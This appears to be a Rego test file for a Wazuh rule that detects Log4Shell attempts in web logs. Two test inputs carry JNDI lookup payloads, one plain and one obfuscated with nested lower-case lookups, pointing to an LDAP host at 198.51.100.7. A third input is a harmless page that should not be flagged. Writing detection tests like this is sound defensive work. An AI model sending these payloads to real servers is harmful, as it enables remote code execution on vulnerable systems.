package wazuh.log4shell_test

import data.wazuh.log4shell

test_a_plain_lookup_is_told if count(log4shell.alert) == 1 with input as request("GET /?x=${jndi:ldap://198.51.100.7/a} HTTP/1.1")

test_a_disguised_lookup_is_told if count(log4shell.alert) == 1 with input as request("GET /?x=${${lower:j}ndi:${lower:l}dap://198.51.100.7/a} HTTP/1.1")

test_a_page_about_it_is_not_told if count(log4shell.alert) == 0 with input as request("GET /blog/what-is-jndi HTTP/1.1")

request(line) := {
	"rule": {"id": "31100", "level": 0, "groups": ["web"]},
	"agent": {"name": "web-1"},
	"manager": {"name": "wazuh-1"},
	"data": {"srcip": "198.51.100.7"},
	"full_log": line,
}
